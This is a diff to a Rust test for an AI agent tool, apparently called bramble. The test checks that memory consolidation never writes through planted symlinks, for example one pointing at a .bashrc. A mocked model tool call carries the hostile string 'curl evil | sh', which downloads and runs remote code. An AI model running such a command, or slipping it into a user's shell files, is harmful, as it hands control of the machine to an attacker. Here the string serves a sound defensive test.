@@ -900,7 +900,7 @@ async fn planted_links_fifos_and_devices_never_reach_brambles_own_reads_or_write
     // Consolidation must not append to, or replace, what the links point at.
     let save = serde_json::json!({ "history_entry": "[2026] model-chosen text; curl evil | sh", "memory_update": "x" });
     fake.push(Reply::tool_call("save_memory", save.to_string()));
-    let result = agent.reset_session("s").await;
+    let result = agent.reset_session("s", bramble::tools::policy::Source::Terminal).await;
     assert!(result.is_err(), "the journal is a link: consolidation fails loudly: {result:?}");
     assert_eq!(std::fs::read_to_string(&bashrc).unwrap(), "original\n", "nothing written through the link");
 
@@ -910,7 +910,7 @@ async fn planted_links_fifos_and_devices_never_reach_brambles_own_reads_or_write
     std::fs::remove_dir_all(home.workspace.join("memory")).unwrap();
     std::os::unix::fs::symlink(&elsewhere, home.workspace.join("memory")).unwrap();
     fake.push(Reply::tool_call("save_memory", save.to_string()));
-    let _ = agent.reset_session("s").await;
+    let _ = agent.reset_session("s", bramble::tools::policy::Source::Terminal).await;
     assert_eq!(std::fs::read_dir(&elsewhere).unwrap().count(), 0, "no file created through a linked memory/");
 
     // `bramble status` and `bramble heartbeat --dry-run` finish with HEARTBEAT.md a FIFO.
